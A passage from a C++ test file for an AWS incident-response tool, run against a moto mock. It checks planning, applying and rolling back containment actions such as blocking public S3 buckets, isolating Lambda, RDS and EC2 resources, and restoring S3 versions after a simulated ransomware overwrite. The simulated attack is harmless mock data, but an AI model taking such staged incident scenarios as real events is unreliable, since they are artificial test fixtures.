  for (const auto& op : OperationsSince(mark)) EXPECT_FALSE(op.starts_with("PUT ") || op.starts_with("DELETE ")) << op;

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  ASSERT_EQ(rolled->plan.calls.size(), 2u);
  EXPECT_EQ(state(), open);

  // Changed since: rollback refused, the change stays.
  auto second = responder_->Apply("remove-public-bucket-access", request);
  ASSERT_TRUE(second && second->execution.ok());
  ASSERT_EQ(moto_->Boto3("boto3.client('s3').put_bucket_policy(Bucket='" + bucket + "', Policy=json.dumps({'Version': "
                         "'2012-10-17', 'Statement': [{'Sid': 'Later', 'Effect': 'Deny', 'Principal': '*', 'Action': "
                         "'s3:DeleteObject', 'Resource': 'arn:aws:s3:::" + bucket + "/*'}]}))\nprint('ok')"),
            "ok");
  auto refused = responder_->Rollback(second->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;
  EXPECT_EQ(state(), "['Later'] ['owner:FULL_CONTROL']");

  auto malformed = responder_->PlanAction("remove-public-bucket-access", {.target = "Bad_Bucket"});
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
  auto missing = responder_->PlanAction("remove-public-bucket-access", {.target = "cw-no-such-bucket-here"});
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound);
}

TEST_F(RespondMotoTest, RemovePublicBucketAccessDeletesAPolicyLeftEmpty) {
  const std::string bucket = "cw-respond-public-only";
  ASSERT_EQ(moto_->Boto3("s3 = boto3.client('s3')\ns3.create_bucket(Bucket='" + bucket + "')\n"
                         "s3.put_bucket_policy(Bucket='" + bucket + "', Policy=json.dumps({'Version': '2012-10-17', "
                         "'Statement': [{'Effect': 'Allow', 'Principal': {'AWS': '*'}, 'Action': 's3:GetObject', "
                         "'Resource': 'arn:aws:s3:::" + bucket + "/*'}]}))\nprint('ok')"),
            "ok");
  auto policy = [&] {
    return moto_->Boto3("try:\n  print(len(json.loads(boto3.client('s3').get_bucket_policy(Bucket='" + bucket +
                        "')['Policy'])['Statement']))\nexcept Exception as e:\n  print(e.response['Error']['Code'])");
  };
  const ActionRequest request{.target = bucket, .incident_id = kIncident};
  auto applied = responder_->Apply("remove-public-bucket-access", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  ASSERT_EQ(applied->plan.calls.size(), 1u);
  EXPECT_EQ(applied->plan.calls[0].operation, "s3:DeleteBucketPolicy");
  EXPECT_EQ(policy(), "NoSuchBucketPolicy");
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  EXPECT_EQ(policy(), "1");
}

// ---------------------------------------------------------------------- zero-lambda-concurrency
TEST_F(RespondMotoTest, ZeroLambdaConcurrencyAndRestoreThePriorReservation) {
  ASSERT_EQ(moto_->Boto3(
                "import io, zipfile\n"
                "role = boto3.client('iam').create_role(RoleName='cw-fn-role', AssumeRolePolicyDocument=json.dumps("
                "{'Version': '2012-10-17', 'Statement': [{'Effect': 'Allow', 'Principal': {'Service': "
                "'lambda.amazonaws.com'}, 'Action': 'sts:AssumeRole'}]}))['Role']['Arn']\n"
                "b = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.writestr('f.py', 'def h(e, c): return 1')\nz.close()\n"
                "boto3.client('lambda').create_function(FunctionName='exfil-fn', Runtime='python3.11', Role=role, "
                "Handler='f.h', Code={'ZipFile': b.getvalue()})\nprint('ok')"),
            "ok");
  auto reserved = [&] {
    return moto_->Boto3(
        "print(boto3.client('lambda').get_function_concurrency(FunctionName='exfil-fn').get('ReservedConcurrentExecutions'))");
  };
  ASSERT_EQ(reserved(), "None");
  const ActionRequest request{.target = "arn:aws:lambda:us-east-1:123456789012:function:exfil-fn",
                              .incident_id = kIncident};

  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("zero-lambda-concurrency", request);
  ASSERT_TRUE(plan) << plan.error().message;
  for (const auto& op : OperationsSince(mark)) EXPECT_FALSE(op.starts_with("PUT ")) << op;
  EXPECT_EQ(plan->target, "exfil-fn");
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].parameters, (json{{"FunctionName", "exfil-fn"}, {"ReservedConcurrentExecutions", 0}}));
  EXPECT_TRUE(plan->prior_state["reserved_concurrency"].is_null());
  EXPECT_EQ(reserved(), "None");

  auto applied = responder_->Apply("zero-lambda-concurrency", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(reserved(), "0");

  mark = recorder_->Mark();
  auto again = responder_->Apply("zero-lambda-concurrency", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  for (const auto& op : OperationsSince(mark)) EXPECT_FALSE(op.starts_with("PUT ")) << op;

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  ASSERT_EQ(rolled->plan.calls.size(), 1u);
  EXPECT_EQ(rolled->plan.calls[0].operation, "lambda:DeleteFunctionConcurrency");
  EXPECT_EQ(reserved(), "None");

  // A prior reservation is put back; a later change refuses the rollback.
  ASSERT_EQ(moto_->Boto3("boto3.client('lambda').put_function_concurrency(FunctionName='exfil-fn', "
                         "ReservedConcurrentExecutions=5)\nprint('ok')"),
            "ok");
  auto second = responder_->Apply("zero-lambda-concurrency", {.target = "exfil-fn", .incident_id = kIncident});
  ASSERT_TRUE(second && second->execution.ok());
  EXPECT_EQ(reserved(), "0");
  auto restored = responder_->Rollback(second->action.id);
  ASSERT_TRUE(restored) << restored.error().message;
  EXPECT_EQ(reserved(), "5");
  auto third = responder_->Apply("zero-lambda-concurrency", {.target = "exfil-fn", .incident_id = kIncident});
  ASSERT_TRUE(third && third->execution.ok());
  ASSERT_EQ(moto_->Boto3("boto3.client('lambda').put_function_concurrency(FunctionName='exfil-fn', "
                         "ReservedConcurrentExecutions=7)\nprint('ok')"),
            "ok");
  auto refused = responder_->Rollback(third->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;
  EXPECT_EQ(reserved(), "7");

  for (const char* bad : {"bad name!", "arn:aws:lambda:us-east-1:123456789012:function:exfil-fn:1", ""}) {
    auto malformed = responder_->PlanAction("zero-lambda-concurrency", {.target = bad});
    ASSERT_FALSE(malformed) << bad;
    EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument) << bad;
  }
  auto missing = responder_->PlanAction("zero-lambda-concurrency", {.target = "no-such-fn"});
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound) << missing.error().message;
}

// ----------------------------------------------------------------------------- enable-guardduty
TEST_F(RespondMotoTest, EnableGuardDutyCreatesOrEnablesTheDetector) {
  auto detectors = [&] {
    return moto_->Boto3("g = boto3.client('guardduty')\n"
                        "print(sorted(g.get_detector(DetectorId=d)['Status'] for d in g.list_detectors()['DetectorIds']))");
  };
  ASSERT_EQ(detectors(), "[]");
  const ActionRequest request{.target = "current", .incident_id = kIncident};

  // No detector: one is created, and deleted on rollback.
  auto plan = responder_->PlanAction("enable-guardduty", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_EQ(plan->target, "us-east-1");
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "guardduty:CreateDetector");
  EXPECT_EQ(detectors(), "[]");
  auto applied = responder_->Apply("enable-guardduty", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(detectors(), "['ENABLED']");
  size_t mark = recorder_->Mark();
  auto again = responder_->Apply("enable-guardduty", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  for (const auto& op : OperationsSince(mark)) EXPECT_FALSE(op.starts_with("POST ")) << op;
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  ASSERT_EQ(rolled->plan.calls.size(), 1u);
  EXPECT_EQ(rolled->plan.calls[0].operation, "guardduty:DeleteDetector");
  EXPECT_EQ(detectors(), "[]");

  // A disabled detector: enabled, and disabled again on rollback.
  const std::string detector =
      moto_->Boto3("print(boto3.client('guardduty').create_detector(Enable=False)['DetectorId'])");
  ASSERT_EQ(detectors(), "['DISABLED']");
  auto enabled = responder_->Apply("enable-guardduty", {.target = "us-east-1", .incident_id = kIncident});
  ASSERT_TRUE(enabled) << enabled.error().message;
  ASSERT_TRUE(enabled->execution.ok()) << enabled->execution.error->message;
  ASSERT_EQ(enabled->plan.calls.size(), 1u);
  EXPECT_EQ(enabled->plan.calls[0].parameters, (json{{"DetectorId", detector}, {"Enable", true}}));
  EXPECT_EQ(detectors(), "['ENABLED']");
  auto disabled = responder_->Rollback(enabled->action.id);
  ASSERT_TRUE(disabled) << disabled.error().message;
  EXPECT_TRUE(disabled->rolled_back);
  EXPECT_EQ(detectors(), "['DISABLED']");

  // Deleted since: rollback refused.
  auto second = responder_->Apply("enable-guardduty", request);
  ASSERT_TRUE(second && second->execution.ok());
  ASSERT_EQ(moto_->Boto3("boto3.client('guardduty').delete_detector(DetectorId='" + detector + "')\nprint('ok')"), "ok");
  auto refused = responder_->Rollback(second->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;

  auto other_region = responder_->PlanAction("enable-guardduty", {.target = "eu-west-1"});
  ASSERT_FALSE(other_region);
  EXPECT_EQ(other_region.error().code, ErrorCode::kInvalidArgument);
}

// ------------------------------------------------------------------------ restrict-rds-instance
TEST_F(RespondMotoTest, RestrictRdsInstanceSnapshotsThenMakesItPrivate) {
  ASSERT_EQ(moto_->Boto3("boto3.client('rds').create_db_instance(DBInstanceIdentifier='orders-db', "
                         "DBInstanceClass='db.t3.micro', Engine='postgres', MasterUsername='admin1', "
                         "MasterUserPassword='Secret-pass-123', AllocatedStorage=20, PubliclyAccessible=True)\nprint('ok')"),
            "ok");
  auto state = [&] {
    return moto_->Boto3("rds = boto3.client('rds')\n"
                        "p = rds.describe_db_instances(DBInstanceIdentifier='orders-db')['DBInstances'][0]['PubliclyAccessible']\n"
                        "s = [x['DBSnapshotIdentifier'] for x in rds.describe_db_snapshots(DBInstanceIdentifier='orders-db')"
                        "['DBSnapshots'] if x['SnapshotType'] == 'manual']\nprint(p, s)");
  };
  ASSERT_EQ(state(), "True []");
  const ActionRequest request{.target = "orders-db", .incident_id = kIncident};
  const std::string snapshot = "cloudward-inc-00000000a1-orders-db";

  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("restrict-rds-instance", request);
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_FALSE(Contains(OperationsSince(mark), "ModifyDBInstance"));
  EXPECT_FALSE(Contains(OperationsSince(mark), "CreateDBSnapshot"));
  ASSERT_EQ(plan->calls.size(), 2u);
  EXPECT_EQ(plan->calls[0].operation, "rds:CreateDBSnapshot");
  EXPECT_EQ(plan->calls[0].parameters["DBSnapshotIdentifier"], snapshot);
  EXPECT_EQ(plan->calls[0].parameters["Tags"]["cloudward:incident"], kIncident);
  EXPECT_EQ(plan->calls[1].parameters,
            (json{{"DBInstanceIdentifier", "orders-db"}, {"PubliclyAccessible", false}, {"ApplyImmediately", true}}));
  EXPECT_EQ(plan->prior_state["publicly_accessible"], true);
  EXPECT_EQ(state(), "True []");

  auto applied = responder_->Apply("restrict-rds-instance", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(applied->execution.outputs["snapshot"], snapshot);
  EXPECT_EQ(state(), "False ['" + snapshot + "']");
  EXPECT_EQ(moto_->Boto3("print({t['Key']: t['Value'] for t in boto3.client('rds').describe_db_snapshots("
                         "DBSnapshotIdentifier='" + snapshot + "')['DBSnapshots'][0]['TagList']}.get('cloudward:incident'))"),
            kIncident);

  mark = recorder_->Mark();
  auto again = responder_->Apply("restrict-rds-instance", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op);
  EXPECT_FALSE(Contains(OperationsSince(mark), "ModifyDBInstance"));
  EXPECT_FALSE(Contains(OperationsSince(mark), "CreateDBSnapshot"));

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  EXPECT_TRUE(rolled->rolled_back);
  ASSERT_EQ(rolled->plan.calls.size(), 1u);
  EXPECT_EQ(state(), "True ['" + snapshot + "']");  // the evidence snapshot is kept

  // Applied again: the incident's snapshot exists, so only the modification; deleted since: refused.
  auto second = responder_->Apply("restrict-rds-instance", request);
  ASSERT_TRUE(second && second->execution.ok());
  ASSERT_EQ(second->plan.calls.size(), 1u);
  EXPECT_EQ(second->plan.calls[0].operation, "rds:ModifyDBInstance");
  ASSERT_EQ(moto_->Boto3("boto3.client('rds').delete_db_instance(DBInstanceIdentifier='orders-db', "
                         "SkipFinalSnapshot=True)\nprint('ok')"),
            "ok");
  auto refused = responder_->Rollback(second->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;

  auto malformed = responder_->PlanAction("restrict-rds-instance", {.target = "Bad_Id", .incident_id = kIncident});
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
  auto no_incident = responder_->PlanAction("restrict-rds-instance", {.target = "orders-db"});
  ASSERT_FALSE(no_incident);
  EXPECT_EQ(no_incident.error().code, ErrorCode::kInvalidArgument);
  auto missing = responder_->PlanAction("restrict-rds-instance", {.target = "missing-db", .incident_id = kIncident});
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound);
}


// ---------------------------------------------------------------------- restore-object-versions
TEST_F(RespondMotoTest, RestoreObjectVersionsUndoesOverwritesAndDeletesInTheWindow) {
  const std::string bucket = "cw-respond-ransomed";
  const std::string s3 = "s3 = boto3.client('s3')\nb = '" + bucket + "'\n";
  ASSERT_EQ(moto_->Boto3(s3 + "s3.create_bucket(Bucket=b)\n"
                         "s3.put_bucket_versioning(Bucket=b, VersioningConfiguration={'Status': 'Enabled'})\n"
                         "for k, v in [('a.txt', 'alpha'), ('b.txt', 'bravo'), ('c.txt', 'charlie'), ('keep.txt', 'kilo'),"
                         " ('other/a.txt', 'outside')]:\n  s3.put_object(Bucket=b, Key='docs/' + k if k != 'other/a.txt' "
                         "else k, Body=v)\nprint('ok')"),
            "ok");
  // S3 (and moto) list LastModified to the second: the window starts at a later second.
  std::this_thread::sleep_for(std::chrono::milliseconds(1200));
  const std::string since = FormatIsoTime(clock_.NowMs() / 1000 * 1000);
  // The attack: a.txt encrypted, b.txt deleted, c.txt encrypted then deleted, a ransom note, and
  // other/a.txt encrypted outside the prefix restored below.
  ASSERT_EQ(moto_->Boto3(s3 + "s3.put_object(Bucket=b, Key='docs/a.txt', Body='ENCRYPTED')\n"
                         "s3.delete_object(Bucket=b, Key='docs/b.txt')\n"
                         "s3.put_object(Bucket=b, Key='docs/c.txt', Body='ENCRYPTED')\n"
                         "s3.delete_object(Bucket=b, Key='docs/c.txt')\n"
                         "s3.put_object(Bucket=b, Key='docs/README-RANSOM.txt', Body='pay')\n"
                         "s3.put_object(Bucket=b, Key='other/a.txt', Body='ENCRYPTED')\nprint('ok')"),
            "ok");
  auto state = [&] {
    return moto_->Boto3(s3 +
                        "out = []\n"
                        "for k in ['docs/a.txt', 'docs/b.txt', 'docs/c.txt', 'docs/keep.txt', 'docs/README-RANSOM.txt', "
                        "'other/a.txt']:\n"
                        "  try:\n    out.append(s3.get_object(Bucket=b, Key=k)['Body'].read().decode())\n"
                        "  except Exception as e:\n    out.append('-')\n"
                        "print(' '.join(out))");
  };
  const std::string attacked = "ENCRYPTED - - kilo pay ENCRYPTED";
  ASSERT_EQ(state(), attacked);
  const ActionRequest request{.target = bucket, .incident_id = kIncident,
                              .options = {{"since", since}, {"prefix", "docs/"}}};

  // Plan: a copy for a.txt and c.txt, the delete marker of b.txt removed; nothing changes.
  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("restore-object-versions", request);
  ASSERT_TRUE(plan) << plan.error().message;
  for (const auto& op : OperationsSince(mark)) EXPECT_FALSE(op.starts_with("PUT ") || op.starts_with("DELETE ")) << op;
  ASSERT_EQ(plan->calls.size(), 3u) << plan->ToJson().dump(2);
  EXPECT_EQ(plan->calls[0].operation, "s3:CopyObject");
  EXPECT_EQ(plan->calls[0].parameters["Key"], "docs/a.txt");
  EXPECT_EQ(plan->calls[1].operation, "s3:DeleteObject");
  EXPECT_EQ(plan->calls[1].parameters["Key"], "docs/b.txt");
  EXPECT_EQ(plan->calls[1].parameters["VersionId"], plan->prior_state["keys"]["docs/b.txt"]["current"]);
  EXPECT_EQ(plan->calls[2].operation, "s3:CopyObject");
  EXPECT_EQ(plan->calls[2].parameters["Key"], "docs/c.txt");
  EXPECT_EQ(plan->prior_state["keys"].size(), 3u);
  EXPECT_TRUE(plan->prior_state["keys"]["docs/c.txt"]["current_is_delete_marker"].get<bool>());
  ASSERT_FALSE(plan->notes.empty());
  EXPECT_NE(plan->notes[0].find("docs/README-RANSOM.txt"), std::string::npos) << plan->notes[0];
  EXPECT_EQ(state(), attacked);
  EXPECT_TRUE(Actions().empty());

  // Apply: the earlier contents are current again; the ransom note and other/ are untouched.
  auto applied = responder_->Apply("restore-object-versions", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(state(), "alpha bravo charlie kilo pay ENCRYPTED");
  auto versions = [&](const std::string& key) {
    return moto_->Boto3(s3 + "r = s3.list_object_versions(Bucket=b, Prefix='" + key + "')\n"
                        "print(len(r.get('Versions', [])), len(r.get('DeleteMarkers', [])))");
  };
  EXPECT_EQ(versions("docs/a.txt"), "3 0");  // alpha, ENCRYPTED, the copy of alpha
  EXPECT_EQ(versions("docs/b.txt"), "1 0");  // the delete marker is gone
  EXPECT_EQ(versions("docs/c.txt"), "3 1");
  const std::string copy_a = applied->execution.outputs.value("copy:docs/a.txt", "");
  EXPECT_FALSE(copy_a.empty()) << applied->execution.ToJson().dump(2);
  EXPECT_EQ(moto_->Boto3(s3 + "print(s3.head_object(Bucket=b, Key='docs/a.txt')['VersionId'])"), copy_a);

  // A second apply is a recorded no-op that calls nothing.
  mark = recorder_->Mark();
  auto again = responder_->Apply("restore-object-versions", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op) << again->plan.ToJson().dump(2);
  for (const auto& op : OperationsSince(mark)) EXPECT_FALSE(op.starts_with("PUT ") || op.starts_with("DELETE ")) << op;

  // Rollback: the copies are deleted and b.txt gets a delete marker again: as the attack left it.
  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  ASSERT_TRUE(rolled->execution.ok()) << rolled->execution.error->message;
  EXPECT_TRUE(rolled->rolled_back);
  ASSERT_EQ(rolled->plan.calls.size(), 3u);
  EXPECT_EQ(state(), attacked);
  EXPECT_EQ(versions("docs/a.txt"), "2 0");
  EXPECT_EQ(versions("docs/b.txt"), "1 1");

  // Changed since the restore: rollback refused, the later change stays.
  auto second = responder_->Apply("restore-object-versions", request);
  ASSERT_TRUE(second && second->execution.ok());
  EXPECT_EQ(state(), "alpha bravo charlie kilo pay ENCRYPTED");
  ASSERT_EQ(moto_->Boto3(s3 + "s3.put_object(Bucket=b, Key='docs/a.txt', Body='edited later')\nprint('ok')"), "ok");
  auto refused = responder_->Rollback(second->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;
  EXPECT_NE(refused.error().message.find("docs/a.txt"), std::string::npos) << refused.error().message;
  EXPECT_EQ(state(), "edited later bravo charlie kilo pay ENCRYPTED");
}

TEST_F(RespondMotoTest, RestoreObjectVersionsBadInput) {
  ASSERT_EQ(moto_->Boto3("boto3.client('s3').create_bucket(Bucket='cw-respond-unversioned')\nprint('ok')"), "ok");
  auto code = [&](const std::string& bucket, std::map<std::string, std::string> options) {
    auto plan = responder_->PlanAction("restore-object-versions",
                                       {.target = bucket, .incident_id = kIncident, .options = std::move(options)});
    EXPECT_FALSE(plan);
    return plan ? ErrorCode::kInternal : plan.error().code;
  };
  EXPECT_EQ(code("cw-respond-unversioned", {}), ErrorCode::kInvalidArgument);  // no since
  EXPECT_EQ(code("cw-respond-unversioned", {{"since", "yesterday"}}), ErrorCode::kInvalidArgument);
  EXPECT_EQ(code("cw-respond-unversioned", {{"since", "2026-01-02T00:00:00Z"}, {"until", "2026-01-01T00:00:00Z"}}),
            ErrorCode::kInvalidArgument);
  EXPECT_EQ(code("Bad_Bucket", {{"since", "2026-01-01T00:00:00Z"}}), ErrorCode::kInvalidArgument);
  EXPECT_EQ(code("cw-no-such-bucket-here", {{"since", "2026-01-01T00:00:00Z"}}), ErrorCode::kNotFound);
  auto never = responder_->PlanAction("restore-object-versions",
                                      {.target = "cw-respond-unversioned", .options = {{"since", "2026-01-01T00:00:00Z"}}});
  ASSERT_FALSE(never);
  EXPECT_EQ(never.error().code, ErrorCode::kConflict);
  EXPECT_NE(never.error().message.find("never had versioning enabled"), std::string::npos) << never.error().message;
}


// --------------------------------------------------------------------- detach-from-auto-scaling
TEST_F(RespondMotoTest, DetachFromAutoScalingAndTargetGroupsAndAttachBackOnRollback) {
  const std::string setup = moto_->Boto3(
      "ec2 = boto3.client('ec2')\nasg = boto3.client('autoscaling')\nlb = boto3.client('elbv2')\n"
      "vpc = ec2.create_vpc(CidrBlock='10.7.0.0/16')['Vpc']['VpcId']\n"
      "subnet = ec2.create_subnet(VpcId=vpc, CidrBlock='10.7.1.0/24', AvailabilityZone='us-east-1a')['Subnet']['SubnetId']\n"
      "ami = ec2.describe_images(Owners=['amazon'])['Images'][0]['ImageId']\n"
      "ec2.create_launch_template(LaunchTemplateName='cw-web', LaunchTemplateData={'ImageId': ami, "
      "'InstanceType': 't3.micro'})\n"
      "asg.create_auto_scaling_group(AutoScalingGroupName='cw-web', LaunchTemplate={'LaunchTemplateName': 'cw-web', "
      "'Version': '1'}, MinSize=0, MaxSize=2, DesiredCapacity=1, VPCZoneIdentifier=subnet)\n"
      "iid = asg.describe_auto_scaling_groups(AutoScalingGroupNames=['cw-web'])['AutoScalingGroups'][0]['Instances'][0]"
      "['InstanceId']\n"
      "tg = lb.create_target_group(Name='cw-web', Protocol='HTTP', Port=80, VpcId=vpc, TargetType='instance')"
      "['TargetGroups'][0]['TargetGroupArn']\n"
      "lb.create_target_group(Name='cw-other', Protocol='HTTP', Port=80, VpcId=vpc, TargetType='instance')\n"
      "lb.register_targets(TargetGroupArn=tg, Targets=[{'Id': iid, 'Port': 8080}])\n"
      "print(iid, tg)");
  const auto space = setup.find(' ');
  ASSERT_NE(space, std::string::npos) << setup;
  const std::string id = setup.substr(0, space), tg = setup.substr(space + 1);
  auto state = [&] {
    return moto_->Boto3("asg = boto3.client('autoscaling')\nlb = boto3.client('elbv2')\n"
                        "g = asg.describe_auto_scaling_groups(AutoScalingGroupNames=['cw-web'])['AutoScalingGroups'][0]\n"
                        "ins = [i['InstanceId'] == '" + id + "' for i in g['Instances']]\n"
                        "t = [str(d['Target']['Port']) for d in lb.describe_target_health(TargetGroupArn='" + tg +
                        "')['TargetHealthDescriptions'] if d['Target']['Id'] == '" + id + "']\n"
                        "print(any(ins), g['DesiredCapacity'], ','.join(t) or '-')");
  };
  ASSERT_EQ(state(), "True 1 8080");
  const ActionRequest request{.target = id, .incident_id = kIncident};

  // isolate-instance points at this action for an instance in a group.
  auto isolate = responder_->PlanAction("isolate-instance", request);
  ASSERT_TRUE(isolate) << isolate.error().message;
  EXPECT_TRUE(std::any_of(isolate->notes.begin(), isolate->notes.end(), [](const std::string& n) {
    return n.find("detach-from-auto-scaling") != std::string::npos;
  })) << isolate->ToJson().dump(2);

  // Plan: deregister (port 8080) then detach with the desired capacity decremented; nothing changes.
  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("detach-from-auto-scaling", request);
  ASSERT_TRUE(plan) << plan.error().message;
  for (const auto& op : OperationsSince(mark)) {
    EXPECT_FALSE(op == "DetachInstances" || op == "DeregisterTargets") << op;
  }
  ASSERT_EQ(plan->calls.size(), 2u) << plan->ToJson().dump(2);
  EXPECT_EQ(plan->calls[0].operation, "elbv2:DeregisterTargets");
  EXPECT_EQ(plan->calls[0].parameters, (json{{"TargetGroupArn", tg}, {"Id", id}, {"Port", 8080}}));
  EXPECT_EQ(plan->calls[1].operation, "autoscaling:DetachInstances");
  EXPECT_EQ(plan->calls[1].parameters,
            (json{{"AutoScalingGroupName", "cw-web"},
                  {"InstanceIds", json::array({id})},
                  {"ShouldDecrementDesiredCapacity", true}}));
  EXPECT_EQ(plan->prior_state["auto_scaling_group"], "cw-web");
  EXPECT_EQ(plan->prior_state["lifecycle_state"], "InService");
  EXPECT_TRUE(std::any_of(plan->notes.begin(), plan->notes.end(), [](const std::string& n) {
    return n.find("ShouldDecrementDesiredCapacity") != std::string::npos;
  }));
  EXPECT_EQ(state(), "True 1 8080");
  EXPECT_TRUE(Actions().empty());

  auto applied = responder_->Apply("detach-from-auto-scaling", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  EXPECT_EQ(state(), "False 0 -");
  EXPECT_EQ(moto_->Boto3("print(boto3.client('ec2').describe_instances(InstanceIds=['" + id +
                         "'])['Reservations'][0]['Instances'][0]['State']['Name'])"),
            "running");

  mark = recorder_->Mark();
  auto again = responder_->Apply("detach-from-auto-scaling", request);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_TRUE(again->no_op) << again->plan.ToJson().dump(2);
  for (const auto& op : OperationsSince(mark)) {
    EXPECT_FALSE(op == "DetachInstances" || op == "DeregisterTargets") << op;
  }

  auto rolled = responder_->Rollback(applied->action.id);
  ASSERT_TRUE(rolled) << rolled.error().message;
  ASSERT_TRUE(rolled->execution.ok()) << rolled->execution.error->message;
  ASSERT_EQ(rolled->plan.calls.size(), 2u) << rolled->plan.ToJson().dump(2);
  EXPECT_EQ(rolled->plan.calls[0].operation, "autoscaling:AttachInstances");
  EXPECT_EQ(rolled->plan.calls[1].operation, "elbv2:RegisterTargets");
  EXPECT_EQ(state(), "True 1 8080");

  // Terminated since: rollback refused.
  auto second = responder_->Apply("detach-from-auto-scaling", request);
  ASSERT_TRUE(second && second->execution.ok());
  ASSERT_TRUE(aws_->Query("ec2", "TerminateInstances", {{"InstanceId.1", id}}));
  auto refused = responder_->Rollback(second->action.id);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;

  auto malformed = responder_->PlanAction("detach-from-auto-scaling", {.target = "web-1"});
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
}

TEST_F(RespondMotoTest, DetachFromAutoScalingIsANoOpForAStandaloneInstance) {
  const std::string id = RunInstance(*aws_);
  ASSERT_FALSE(id.empty());
  auto plan = responder_->PlanAction("detach-from-auto-scaling", {.target = id, .incident_id = kIncident});
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_TRUE(plan->no_op()) << plan->ToJson().dump(2);
  EXPECT_EQ(plan->prior_state["auto_scaling_group"], "");
}


// ---------------------------------------------------------------------------- open-support-case
TEST_F(RespondMotoTest, OpenSupportCaseOncePerIncidentAndCannotBeRolledBack) {
  auto cases = [&] {
    return moto_->Boto3("for c in boto3.client('support', region_name='us-east-1').describe_cases("
                        "includeResolvedCases=True)['cases']:\n  print(c['subject'])");
  };
  const std::string before = cases();  // other tests in this server may have made none or some
  ASSERT_EQ(before.find(kIncident), std::string::npos) << before;
  const ActionRequest request{.target = kIncident, .incident_id = kIncident,
                              .options = {{"title", "compromised workload"},
                                          {"summary", "Access key AKIA... used from an unknown network."},
                                          {"severity", "urgent"}}};

  // JSON-protocol calls are recorded by their X-Amz-Target.
  size_t mark = recorder_->Mark();
  auto plan = responder_->PlanAction("open-support-case", request);
  EXPECT_TRUE(Contains(OperationsSince(mark), "AWSSupport_20130415.DescribeCases"));
  ASSERT_TRUE(plan) << plan.error().message;
  EXPECT_FALSE(Contains(OperationsSince(mark), "AWSSupport_20130415.CreateCase"));
  ASSERT_EQ(plan->calls.size(), 1u);
  EXPECT_EQ(plan->calls[0].operation, "support:CreateCase");
  EXPECT_EQ(plan->calls[0].parameters,
            (json{{"Subject", std::string("cloudward incident ") + kIncident + ": compromised workload"},
                  {"CommunicationBody", "Access key AKIA... used from an unknown network."},
                  {"SeverityCode", "urgent"}}));
  EXPECT_EQ(cases(), before);
  EXPECT_TRUE(Actions().empty());

  auto applied = responder_->Apply("open-support-case", request);
  ASSERT_TRUE(applied) << applied.error().message;
  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
  const std::string case_id = applied->execution.outputs.value("case", "");
  EXPECT_FALSE(case_id.empty());
  EXPECT_NE(cases().find(std::string("cloudward incident ") + kIncident + ": compromised workload"), std::string::npos);
  // (moto moves a case's severity on at every DescribeCases, so only the plan shows it reliably.)
